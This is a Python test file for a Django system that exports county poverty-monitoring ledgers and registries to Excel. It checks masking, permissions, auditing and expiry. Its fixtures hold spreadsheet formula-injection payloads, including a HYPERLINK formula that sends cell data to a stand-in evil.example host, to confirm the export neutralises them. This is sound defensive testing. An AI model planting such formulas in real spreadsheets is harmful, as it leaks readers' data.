"""台账导出: the ledger and the registry as Excel, asked for through the API and the pages,
built by the job, downloaded by their owner until they expire.

The fixture is a small county whose rows are counted here by hand: cases in several states,
steps after the day of the ledger (not shown), a step late on the evening of the day (shown:
the day is local), measures per category before and after the day, a 动态调整 confirmed after
the day, members born, dead and moved out around it, and hostile text everywhere a user types
(names, reasons)."""

import io
import json
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.core.management import call_command
from rest_framework.test import APIClient

from accounts.choices import AuditAction, Role
from accounts.models import AuditEvent, User
from households import pii
from households.idnumber import mask_id_number
from interventions.models import MeasureCategory, MeasureRecord
from monitor.models import Case, CaseAdjustment, CaseRisk, CaseTransition, ExportJob
from monitor.reports import exports as export_services
from monitor.reports import ledger as ledger_module
from monitor.reports.exports import export_ledger_file, export_path, export_run, exports_expire
from monitor.workflow import STEP_BY_ACTION
from tests.conftest import (
    COUNTY,
    OTHER_VILLAGE,
    TOWNSHIP_1,
    TOWNSHIP_2,
    VILLAGE_A,
    VILLAGE_B,
    VILLAGE_C,
)
from tests.factories import HouseholdFactory, MemberFactory, make_id_number

pytestmark = pytest.mark.django_db

SHANGHAI = ZoneInfo("Asia/Shanghai")
D = date(2026, 6, 30)
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击领取补贴")'
HOSTILE_NAMES = [HYPERLINK, "+1", "-2", "@SUM(A1)", "\t=1"]


def _at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=SHANGHAI)


def _id_ending_in_x(birth: date) -> str:
    for sequence in range(0, 1000, 2):
        number = make_id_number(birth=birth, sequence=sequence)
        if number.endswith("X"):
            return number
    raise AssertionError("no sequence gives a check character X")


def _case(household, *, category, channel, found_on, risks, main_risk, status="draft", **extra):
    case = Case.objects.create(
        household=household,
        category=category,
        channel=channel,
        found_on=found_on,
        main_risk=main_risk,
        status=status,
        **extra,
    )
    CaseRisk.objects.bulk_create([CaseRisk(case=case, code=code) for code in risks])
    return case


def _trail(case, by, *steps):
    """Steps (action, local time, comment) along the workflow table, stamped at their time."""
    status = case.status
    for action, when, comment in steps:
        step = STEP_BY_ACTION[action]
        assert status in step.sources, (action, status)
        target = step.target or status
        row = CaseTransition.objects.create(
            case=case,
            action=action,
            from_status=status,
            to_status=target,
            actor=by,
            actor_role=by.role,
            actor_region=by.region_id,
            comment=comment,
        )
        CaseTransition.objects.filter(pk=row.pk).update(at=_at(when))
        status = target
    Case.objects.filter(pk=case.pk).update(status=status)
    case.refresh_from_db()
    return case


def _measure(case, code, start_on, description="医疗救助"):
    return MeasureRecord.objects.create(
        case=case,
        category=MeasureCategory.objects.get(code=code),
        description=description,
        department="县医保局",
        start_on=start_on,
        amount=Decimal("1000"),
    )


@pytest.fixture
def county(users, lines):
    """Six cases found by D in the county (five in 桥头镇, one in 城关镇), one found after D,
    and one in the neighbouring county."""
    by = users["approver"]
    x_id = _id_ending_in_x(date(1970, 1, 1))
    people = {}

    # 1 · 东关村, in monitoring on D; clearance proposed after D; an adjustment after D.
    hh1 = HouseholdFactory(village_id=VILLAGE_A, kind="lifted")
    people["head1"] = MemberFactory(
        household=hh1, name=HYPERLINK, relation="head", id_number=x_id, phone="13912345678"
    )
    MemberFactory(
        household=hh1,
        name="+1",
        relation="spouse",
        id_number=make_id_number(birth=date(1972, 2, 2), sequence=10, male=False),
    )
    MemberFactory(  # born after D: not in the family on D
        household=hh1,
        name="-2",
        relation="child",
        labour="none",
        id_number=make_id_number(birth=date(2026, 8, 1), sequence=12),
    )
    MemberFactory(  # died before D
        household=hh1,
        name="@SUM(A1)",
        relation="parent",
        labour="lost",
        id_number=make_id_number(birth=date(1940, 3, 3), sequence=14),
        life_status="deceased",
        life_status_on=date(2026, 5, 1),
    )
    MemberFactory(  # moved out after D: still in the family on D
        household=hh1,
        name="\t=1",
        relation="child",
        id_number=make_id_number(birth=date(2000, 4, 4), sequence=16),
        life_status="moved_out",
        life_status_on=date(2026, 8, 1),
    )
    case1 = _case(
        hh1,
        category="sudden",
        channel="cadre_screening",
        found_on=date(2026, 3, 2),
        risks=["05"],
        main_risk="05",
    )
    _trail(
        case1,
        by,
        ("report", "2026-03-08 10:00", ""),
        ("township_approve", "2026-03-09 10:00", ""),
        ("county_approve", "2026-03-10 10:00", ""),
        ("propose_clearance", "2026-09-15 10:00", ""),
    )
    CaseAdjustment.objects.create(
        case=case1,
        status="confirmed",
        category="sudden",
        risk_codes=["05"],
        main_risk="05",
        reason="意外事故",
        before={"category": "unstable", "risk_codes": ["01", "03"], "main_risk": "01"},
        proposed_by=users["cadre_a"],
        decided_by=users["reviewer_1"],
        decided_at=_at("2026-08-01 10:00"),
    )
    _measure(case1, "health", date(2026, 3, 15), description=HYPERLINK)
    _measure(case1, "health", date(2026, 4, 1))
    _measure(case1, "social_security", date(2026, 5, 1))
    _measure(case1, "industry", date(2026, 7, 5))  # after D

    # 2 · 东关村, a paper self-application accepted after D: still waiting on D.
    hh2 = HouseholdFactory(village_id=VILLAGE_A)
    MemberFactory(household=hh2, name="赵二", relation="head")
    case2 = _case(
        hh2,
        category="marginal",
        channel="self_application",
        found_on=date(2026, 6, 20),
        risks=["01"],
        main_risk="01",
        status="applied",
    )
    _trail(case2, users["reviewer_1"], ("accept", "2026-07-02 09:00", ""))

    # 3 · 西关村, refused by the township with a reason a user typed.
    hh3 = HouseholdFactory(village_id=VILLAGE_B)
    MemberFactory(household=hh3, name="钱三", relation="head")
    case3 = _case(
        hh3,
        category="marginal",
        channel="department_warning",
        found_on=date(2026, 1, 10),
        risks=["07", "04"],
        main_risk="07",
    )
    _trail(
        case3,
        users["reviewer_1"],
        ("report", "2026-01-15 10:00", ""),
        ("township_reject", "2026-01-20 10:00", "+1 收入超标，联系电话13912345678"),
    )

    # 4 · 西关村, cleared before D; 4b · the same household again (返贫), draft on D.
    hh4 = HouseholdFactory(village_id=VILLAGE_B)
    MemberFactory(household=hh4, name="孙四", relation="head")
    case4 = _case(
        hh4,
        category="sudden",
        channel="cadre_screening",
        found_on=date(2025, 6, 20),
        risks=["02", "0201"],
        main_risk="0201",
        clearance_kind="assisted",
    )
    _trail(
        case4,
        by,
        ("report", "2025-07-01 10:00", ""),
        ("township_approve", "2025-07-02 10:00", ""),
        ("county_approve", "2025-07-03 10:00", ""),
        ("propose_clearance", "2026-01-10 10:00", ""),
        ("township_approve_clearance", "2026-01-12 10:00", ""),
        ("county_approve_clearance", "2026-01-15 10:00", ""),
    )
    _measure(case4, "employment", date(2025, 8, 1))
    case4b = _case(
        hh4,
        category="sudden",
        channel="cadre_screening",
        found_on=date(2026, 5, 1),
        risks=["01"],
        main_risk="01",
        relapse_of=case4,
    )

    # 5 · 向阳村 (城关镇): reported late on the evening of D, approved just after midnight.
    hh5 = HouseholdFactory(village_id=VILLAGE_C)
    MemberFactory(household=hh5, name="@SUM(A1)", relation="head")
    case5 = _case(
        hh5,
        category="marginal",
        channel="cadre_screening",
        found_on=date(2026, 6, 1),
        risks=["09"],
        main_risk="09",
    )
    _trail(
        case5,
        by,
        ("report", "2026-06-30 23:30", ""),
        ("township_approve", "2026-07-01 00:10", ""),
    )

    # Found after D, and one in the other county: in no ledger of D for this county.
    hh6 = HouseholdFactory(village_id=VILLAGE_C)
    MemberFactory(household=hh6, name="周六", relation="head")
    _case(
        hh6,
        category="marginal",
        channel="cadre_screening",
        found_on=date(2026, 7, 10),
        risks=["01"],
        main_risk="01",
    )
    other = HouseholdFactory(village_id="630122100201")
    MemberFactory(household=other, name="吴七", relation="head")
    _case(
        other,
        category="marginal",
        channel="cadre_screening",
        found_on=date(2026, 1, 1),
        risks=["01"],
        main_risk="01",
    )
    return {
        "cases": [case1, case2, case3, case4, case4b, case5],
        "households": [hh1, hh2, hh3, hh4, hh5],
        "x_id": x_id,
        "head1": people["head1"],
    }


def _rows(path) -> list[dict]:
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def _all_cells(path):
    for row in openpyxl.load_workbook(path).active.iter_rows():
        yield from row


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _day(value):
    return value.date() if isinstance(value, datetime) else value


# --- the ledger's rows ---------------------------------------------------------------------


def test_the_ledger_of_a_day_is_the_hand_count_of_the_fixture(county, tmp_path):
    path = tmp_path / "ledger.xlsx"
    assert export_ledger_file("630121", D, path) == 6

    rows = {row["户编号"]: row for row in _rows(path)}
    hh1, hh2, hh3, hh4, hh5 = county["households"]
    assert set(rows) == {hh1.number, hh2.number, hh3.number, hh4.number, hh5.number}

    first = rows[hh1.number]
    assert (first["县"], first["乡镇"], first["村"]) == ("大通回族土族自治县", "桥头镇", "东关村")
    assert first["户主姓名"] == HYPERLINK
    assert first["户主身份证号"] == mask_id_number(county["x_id"])
    assert first["户类型"] == "脱贫户"
    assert first["家庭人口"] == 3  # head, spouse, the child who moved out after D
    # The adjustment confirmed after D: the ledger shows the values it replaced.
    assert first["监测对象类别"] == "脱贫不稳定户"
    assert first["风险类型"] == "因病、因残"
    assert first["主要风险"] == "因病"
    assert first["发现渠道"] == "干部走访排查"
    assert first["是否返贫"] == "否"
    assert _day(first["发现日期"]) == date(2026, 3, 2)
    assert _day(first["村级上报"]) == date(2026, 3, 8)
    assert _day(first["乡镇审核"]) == date(2026, 3, 9)
    assert _day(first["县级审定纳入监测"]) == date(2026, 3, 10)
    assert first["村级提出风险消除"] is None  # after D
    assert first["状态"] == "监测帮扶中"
    assert (first["健康帮扶"], first["综合保障"], first["产业帮扶"]) == (2, 1, None)
    assert first["消除方式"] is None and first["消除日期"] is None

    waiting = rows[hh2.number]
    assert waiting["状态"] == "待乡镇受理"
    assert waiting["乡镇受理"] is None

    refused = rows[hh3.number]
    assert refused["状态"] == "不予纳入"
    assert refused["办结方式"] == "乡镇不予纳入"
    assert _day(refused["办结日期"]) == date(2026, 1, 20)
    # Free text keeps its words; a number typed into it is masked.
    assert refused["办结理由"] == "+1 收入超标，联系电话139****5678"
    assert refused["风险类型"] == "缺劳动力、因务工就业不稳"

    # 4 and 4b share a household: the later finding comes second.
    sheet_rows = [row for row in _rows(path) if row["户编号"] == hh4.number]
    assert [row["状态"] for row in sheet_rows] == ["风险已消除", "村级核实中"]
    assert sheet_rows[0]["消除方式"] == "帮扶消除"
    assert _day(sheet_rows[0]["消除日期"]) == date(2026, 1, 15)
    assert sheet_rows[0]["就业帮扶"] == 1
    assert sheet_rows[0]["风险类型"] == "因自然灾害、洪涝灾害"
    assert sheet_rows[1]["是否返贫"] == "是"
    assert sheet_rows[1]["消除方式"] is None

    evening = rows[hh5.number]
    assert (evening["乡镇"], evening["村"]) == ("城关镇", "向阳村")
    assert _day(evening["村级上报"]) == D  # 23:30 local on D
    assert evening["乡镇审核"] is None  # 00:10 the next day
    assert evening["状态"] == "村级已上报"


def test_a_ledger_of_a_later_day_shows_the_later_steps(county, tmp_path):
    path = tmp_path / "ledger.xlsx"
    export_ledger_file("630121", date(2026, 10, 1), path)

    rows = {row["户编号"]: row for row in _rows(path)}
    hh1, hh2, _, _, hh5 = county["households"]
    assert len(_rows(path)) == 7  # the case found on 2026-07-10 too
    assert rows[hh1.number]["状态"] == "风险消除待审核"
    assert rows[hh1.number]["监测对象类别"] == "突发严重困难户"  # adjusted by then
    assert rows[hh1.number]["产业帮扶"] == 1
    assert rows[hh1.number]["家庭人口"] == 3  # the child born, the one moved out gone
    assert rows[hh2.number]["状态"] == "村级核实中"
    assert _day(rows[hh2.number]["乡镇受理"]) == date(2026, 7, 2)
    assert rows[hh5.number]["状态"] == "乡镇已审核"


def test_full_ids_round_trip_exactly_as_text_and_no_cell_is_a_formula(county, tmp_path):
    path = tmp_path / "ledger.xlsx"
    export_ledger_file("630121", D, path, full_ids=True)

    heads = {row["户编号"]: row["户主身份证号"] for row in _rows(path)}
    hh1 = county["households"][0]
    assert heads[hh1.number] == county["x_id"]
    assert county["x_id"].endswith("X")
    expected = {hh.number: hh.members.get(relation="head") for hh in county["households"]}
    for number, member in expected.items():
        assert heads[number] == pii.decrypt(member.id_number_encrypted, field="id_number")
    cells = list(_all_cells(path))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    id_cells = [c for c in cells if c.column_letter == "F" and c.row > 1]
    assert {c.data_type for c in id_cells} == {"s"}
    assert {c.number_format for c in id_cells} == {"@"}
    hostile = [c for c in cells if c.value == HYPERLINK]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
    assert "<f>" not in _sheet_xml(path)


def test_masked_ledger_holds_no_full_number_anywhere(county, tmp_path):
    path = tmp_path / "ledger.xlsx"
    export_ledger_file("630121", D, path)

    xml = _sheet_xml(path)
    assert county["x_id"] not in xml
    assert "13912345678" not in xml
    assert mask_id_number(county["x_id"]) in xml


def test_rows_come_in_chunks_with_a_bounded_number_of_queries(
    county, tmp_path, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(ledger_module, "CHUNK", 2)
    progress = []
    spec = ledger_module.ledger("630121", D)
    # Region names, the main rows, and six reads per chunk of two cases: none per row.
    with django_assert_max_num_queries(2 + 3 * 6):
        written = export_services.write_sheet(spec, tmp_path / "x.xlsx", progress=progress.append)
    assert written == 6
    assert progress == [2, 4, 6]


def test_the_registry_lists_every_member_with_masked_or_full_numbers(county, tmp_path):
    job_rows = {}
    for full in (False, True):
        path = tmp_path / f"registry-{full}.xlsx"
        spec = ledger_module.registry("630121100", full_ids=full)
        export_services.write_sheet(spec, path)
        job_rows[full] = _rows(path)
    masked, full = job_rows[False], job_rows[True]
    # 桥头镇: five members of household 1, one each in households 2, 3 and 4.
    assert len(masked) == len(full) == 8
    head = next(row for row in full if row["姓名"] == HYPERLINK)
    assert head["身份证号"] == county["x_id"]
    assert head["联系电话"] == "13912345678"
    assert head["是否户主"] == "是" and head["监测对象"] == "否"
    masked_head = next(row for row in masked if row["姓名"] == HYPERLINK)
    assert masked_head["身份证号"] == mask_id_number(county["x_id"])
    assert masked_head["联系电话"] == "139****5678"
    gone = next(row for row in masked if row["姓名"] == "@SUM(A1)")
    assert gone["成员状态"] == "死亡" and gone["劳动技能"] == "丧失劳动力"
    assert {row["姓名"] for row in masked} >= set(HOSTILE_NAMES)


# --- asking, running, downloading ------------------------------------------------------------


def _ask(client, **body):
    return client.post("/api/exports/", {"kind": "ledger", **body}, format="json")


def _run_asked(client, django_capture_on_commit_callbacks, **body):
    with django_capture_on_commit_callbacks(execute=True):
        response = _ask(client, **body)
    assert response.status_code == 202, response.content
    return ExportJob.objects.get(pk=response.json()["id"])


def test_a_township_export_holds_only_its_township(
    api, county, eager_celery, django_capture_on_commit_callbacks
):
    client = api("reviewer_1")
    job = _run_asked(
        client,
        django_capture_on_commit_callbacks,
        region=TOWNSHIP_1,
        as_of=D.isoformat(),
    )

    assert job.state == "done"
    response = client.get(f"/api/exports/{job.pk}/download/")
    assert response.status_code == 200
    rows = _rows(io.BytesIO(b"".join(response.streaming_content)))
    assert len(rows) == 5
    assert {row["乡镇"] for row in rows} == {"桥头镇"}
    assert {row["村"] for row in rows} == {"东关村", "西关村"}


def test_a_region_outside_the_users_is_not_found_and_a_statistics_viewer_is_refused(
    api, county, users
):
    assert _ask(api("reviewer_1"), region=TOWNSHIP_2).status_code == 404
    assert _ask(api("reviewer_1"), region=COUNTY).status_code == 404
    assert _ask(api("approver_other"), region=COUNTY).status_code == 404
    assert _ask(api("cadre_a"), region="999999999999").status_code == 404
    viewer = User.objects.create_user(
        username="stats", password="pw-stats-123", role=Role.STATISTICS_VIEWER, region_id=COUNTY
    )
    client = APIClient()
    client.force_authenticate(viewer)
    refused = _ask(client, region=COUNTY)
    assert refused.status_code == 403
    assert "统计查看人" in refused.json()["detail"]
    # A role without people duties is refused before any region is looked up (issue 11).
    assert _ask(api("auditor"), region=COUNTY).status_code == 403
    assert not ExportJob.objects.exists()


def test_full_ids_need_a_reason_and_the_request_is_audited_without_numbers(
    api, county, users, eager_celery, django_capture_on_commit_callbacks
):
    client = api("approver")
    refused = _ask(client, region=COUNTY, full_ids=True, reason=" ")
    assert refused.status_code == 400
    assert "reason" in refused.json()["errors"]
    assert not ExportJob.objects.exists()

    job = _run_asked(
        client,
        django_capture_on_commit_callbacks,
        region=COUNTY,
        as_of=D.isoformat(),
        full_ids=True,
        reason="报送县医保局核对参保",
    )

    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.actor == users["approver"]
    assert event.object_id == str(job.pk)
    assert event.reason == "报送县医保局核对参保"
    assert event.detail == {
        "kind": "ledger",
        "region": COUNTY,
        "as_of": D.isoformat(),
        "full_ids": True,
    }
    assert county["x_id"] not in f"{event.detail}{event.object_label}{event.reason}"
    body = client.get(f"/api/exports/{job.pk}/download/")
    rows = _rows(io.BytesIO(b"".join(body.streaming_content)))
    assert county["x_id"] in {row["户主身份证号"] for row in rows}


def test_bad_days_and_kinds_are_refused_in_chinese_by_field(api, county):
    client = api("approver")
    tomorrow = date.today() + timedelta(days=2)
    for body, field in (
        ({"as_of": tomorrow.isoformat()}, "as_of"),
        ({"as_of": "1999-12-31"}, "as_of"),
        ({"as_of": "2026-02-30"}, "as_of"),
        ({"kind": "everything"}, "kind"),
        ({"region": "63012"}, "region"),
    ):
        response = _ask(client, **body)
        assert response.status_code == 400, body
        assert field in response.json()["errors"], body
    assert not ExportJob.objects.exists()


def test_a_user_with_too_many_waiting_exports_is_told_to_wait(api, county, users, settings):
    settings.MONITOR = {**settings.MONITOR, "EXPORT_MAX_ACTIVE": 1}
    ExportJob.objects.create(
        kind="ledger", region_id=COUNTY, as_of=D, requested_by=users["approver"]
    )

    response = _ask(api("approver"), region=COUNTY)

    assert response.status_code == 429
    assert "排队或生成中" in response.json()["detail"]
    assert _ask(api("reviewer_1"), region=TOWNSHIP_1).status_code == 202


def test_progress_fields_and_a_second_run_that_changes_nothing(
    api, county, users, eager_celery, django_capture_on_commit_callbacks
):
    job = _run_asked(
        api("approver"), django_capture_on_commit_callbacks, region=COUNTY, as_of=D.isoformat()
    )

    assert (job.state, job.rows_total, job.rows_done) == ("done", 6, 6)
    assert job.started_at <= job.finished_at
    assert job.size_bytes == export_path(job).stat().st_size > 0
    assert job.file_name == "监测对象台账-大通回族土族自治县-20260630.xlsx"
    assert job.expires_at == job.finished_at + timedelta(hours=24)
    detail = api("approver").get(f"/api/exports/{job.pk}/").json()
    assert detail["progress"] == 100
    assert detail["download_url"].endswith(f"/api/exports/{job.pk}/download/")
    before = export_path(job).stat().st_mtime_ns

    assert export_run(job.pk) == "done"
    assert export_path(job).stat().st_mtime_ns == before
    assert ExportJob.objects.get(pk=job.pk).finished_at == job.finished_at


def test_only_the_owner_lists_sees_and_downloads_an_export(
    api, county, eager_celery, django_capture_on_commit_callbacks
):
    job = _run_asked(api("reviewer_1"), django_capture_on_commit_callbacks, region=TOWNSHIP_1)
    other = api("approver")  # above the township in scope, but not the owner

    assert other.get("/api/exports/").json()["count"] == 0
    assert other.get(f"/api/exports/{job.pk}/").status_code == 404
    assert other.get(f"/api/exports/{job.pk}/download/").status_code == 404
    assert api("reviewer_1").get("/api/exports/").json()["count"] == 1


def test_download_is_refused_while_waiting_and_gone_after_expiry(
    api, county, users, eager_celery, django_capture_on_commit_callbacks
):
    client = api("approver")
    waiting = ExportJob.objects.create(
        kind="registry", region_id=COUNTY, as_of=D, requested_by=users["approver"]
    )
    assert client.get(f"/api/exports/{waiting.pk}/download/").status_code == 409
    assert client.get(f"/api/exports/{waiting.pk}/").json()["download_url"] is None

    job = _run_asked(client, django_capture_on_commit_callbacks, region=COUNTY)
    ok = client.get(f"/api/exports/{job.pk}/download/")
    assert ok.status_code == 200
    disposition = ok["Content-Disposition"]
    assert disposition.startswith('attachment; filename="ledger-630121000000-')
    assert "filename*=UTF-8''%E7%9B%91%E6%B5%8B" in disposition  # 监测…

    later = job.expires_at + timedelta(minutes=1)
    with time_machine.travel(later, tick=False):
        gone = client.get(f"/api/exports/{job.pk}/download/")
        assert gone.status_code == 410
        assert "过期" in gone.json()["detail"]
        assert client.get(f"/api/exports/{job.pk}/").json()["download_url"] is None
        result = exports_expire()
    assert result["expired"] == 1
    assert not export_path(job).exists()
    assert ExportJob.objects.get(pk=job.pk).state == "expired"
    assert client.get(f"/api/exports/{job.pk}/download/").status_code == 410


def test_a_job_whose_worker_died_is_failed_by_the_sweep_and_frees_the_limit(
    api, county, users, settings
):
    settings.MONITOR = {**settings.MONITOR, "EXPORT_MAX_ACTIVE": 1}
    stuck = ExportJob.objects.create(
        kind="ledger", region_id=COUNTY, as_of=D, requested_by=users["approver"]
    )
    later = stuck.created_at + timedelta(minutes=61)
    with time_machine.travel(later, tick=False):
        assert exports_expire()["abandoned"] == 1
        stuck.refresh_from_db()
        assert stuck.state == "failed" and "超时" in stuck.error
        assert export_run(stuck.pk) == "failed"  # a late delivery does not revive it
        assert _ask(api("approver"), region=COUNTY).status_code == 202


def test_a_failing_job_is_failed_with_a_chinese_error_and_leaves_no_file(
    api, county, users, monkeypatch
):
    job = ExportJob.objects.create(
        kind="ledger", region_id=COUNTY, as_of=D, requested_by=users["approver"]
    )

    def broken(*args, **kwargs):
        raise RuntimeError("connection lost")

    monkeypatch.setattr(ledger_module, "_heads", broken)
    assert export_run(job.pk) == "failed"
    job.refresh_from_db()
    assert job.error.startswith("生成失败")
    assert not export_path(job).exists()
    assert not list(export_path(job).parent.glob("*"))


# --- pages ----------------------------------------------------------------------------------


@pytest.fixture
def browser(client, users):
    def signed_in(name):
        client.force_login(users[name])
        return client

    return signed_in


def test_the_export_pages_ask_follow_and_download(
    browser, county, eager_celery, django_capture_on_commit_callbacks
):
    client = browser("reviewer_1")
    page = client.get("/exports/")
    assert page.status_code == 200
    text = page.content.decode()
    assert "台账导出" in text and 'href="/exports/"' in text  # the navigation entry
    assert "桥头镇" in text and "东关村" in text and "城关镇" not in text

    with django_capture_on_commit_callbacks(execute=True):
        posted = client.post(
            "/exports/",
            {"kind": "registry", "region": TOWNSHIP_1, "as_of": D.isoformat()},
        )
    job = ExportJob.objects.get()
    assert posted.status_code == 302 and posted["Location"] == f"/exports/{job.pk}/"
    shown = client.get(f"/exports/{job.pk}/").content.decode()
    assert f"/exports/{job.pk}/download/" in shown and "hx-trigger" not in shown
    download = client.get(f"/exports/{job.pk}/download/")
    assert download.status_code == 200
    assert len(_rows(io.BytesIO(b"".join(download.streaming_content)))) == 8


def test_the_job_page_polls_with_its_progress_while_the_job_runs(browser, county, users):
    job = ExportJob.objects.create(
        kind="ledger",
        region_id=TOWNSHIP_1,
        as_of=D,
        requested_by=users["reviewer_1"],
        state="running",
        rows_total=6,
        rows_done=4,
    )
    client = browser("reviewer_1")
    block = client.get(f"/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert block.lstrip().startswith("<section")
    assert 'hx-trigger="every 2s"' in block
    assert '<progress max="6" value="4"' in block
    assert "4 / 6" in block
    refused = client.get(f"/exports/{job.pk}/download/")
    assert refused.status_code == 409
    assert "生成中" in refused.content.decode()


def test_page_form_refusals_are_shown_beside_their_fields(browser, county):
    client = browser("approver")
    response = client.post(
        "/exports/",
        {"kind": "ledger", "region": COUNTY, "as_of": D.isoformat(), "full_ids": "on"},
    )
    assert response.status_code == 400
    assert "导出完整身份证号须填写理由" in response.content.decode()
    other = client.post("/exports/", {"kind": "ledger", "region": TOWNSHIP_2 + "x"})
    assert other.status_code == 400
    assert not ExportJob.objects.exists()


def test_a_statistics_viewer_has_no_export_pages(client, county):
    viewer = User.objects.create_user(
        username="stats", password="pw-stats-123", role=Role.STATISTICS_VIEWER, region_id=COUNTY
    )
    client.force_login(viewer)
    assert client.get("/exports/").status_code == 403


def test_someone_elses_job_page_is_not_found(browser, county, users):
    job = ExportJob.objects.create(
        kind="ledger", region_id=TOWNSHIP_1, as_of=D, requested_by=users["reviewer_1"]
    )
    client = browser("cadre_a")
    assert client.get(f"/exports/{job.pk}/").status_code == 404
    assert client.get(f"/exports/{job.pk}/download/").status_code == 404


def test_the_schema_documents_every_answer_of_the_export_endpoints(tmp_path):
    target = tmp_path / "schema.json"
    call_command(
        "spectacular",
        "--validate",
        "--fail-on-warn",
        "--format",
        "openapi-json",
        "--file",
        str(target),
    )
    paths = json.loads(target.read_text("utf-8"))["paths"]
    ask = paths["/api/exports/"]["post"]["responses"]
    assert set(ask) == {"202", "400", "401", "403", "404", "415", "429"}
    detail = paths["/api/exports/{id}/"]["get"]["responses"]
    assert set(detail) == {"200", "401", "403", "404", "429"}
    download = paths["/api/exports/{id}/download/"]["get"]["responses"]
    assert set(download) == {"200", "401", "403", "404", "409", "410", "429"}
    assert set(paths["/api/exports/"]["get"]["responses"]) == {
        "200",
        "400",
        "401",
        "403",
        "404",
        "429",
    }
    assert list(download["200"]["content"]) == [
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ]


def test_numbers_typed_into_the_reason_are_kept_masked(api, county, eager_celery):
    response = _ask(
        api("approver"),
        region=COUNTY,
        full_ids=True,
        reason=f"核对 {county['x_id']} 电话13912345678",
    )
    assert response.status_code == 202
    job = ExportJob.objects.get()
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    for kept in (job.reason, event.reason):
        assert county["x_id"] not in kept and "13912345678" not in kept
        assert kept.startswith("核对 ")


def test_full_number_exports_are_bounded_per_day(api, county, eager_celery, settings):
    settings.MONITOR = {**settings.MONITOR, "EXPORT_FULL_IDS_PER_DAY": 1, "EXPORT_MAX_ACTIVE": 9}
    client = api("approver")
    assert _ask(client, region=COUNTY, full_ids=True, reason="核对参保").status_code == 202
    refused = _ask(client, region=COUNTY, full_ids=True, reason="核对参保")
    assert refused.status_code == 429 and "上限" in refused.json()["detail"]
    # A masked sheet is not a reveal: still allowed.
    assert _ask(client, region=COUNTY).status_code == 202


def test_the_form_takes_the_region_and_day_the_report_page_links_with(client, users, county):
    client.force_login(users["approver"])
    page = client.get("/exports/", {"region": VILLAGE_A, "as_of": "2026-06-30"}).content.decode()
    assert f'<option value="{VILLAGE_A}" selected>' in page
    assert 'value="2026-06-30"' in page
    # A region the user may not export is not offered, whatever the link says.
    other = client.get("/exports/", {"region": OTHER_VILLAGE}).content.decode()
    assert OTHER_VILLAGE not in other
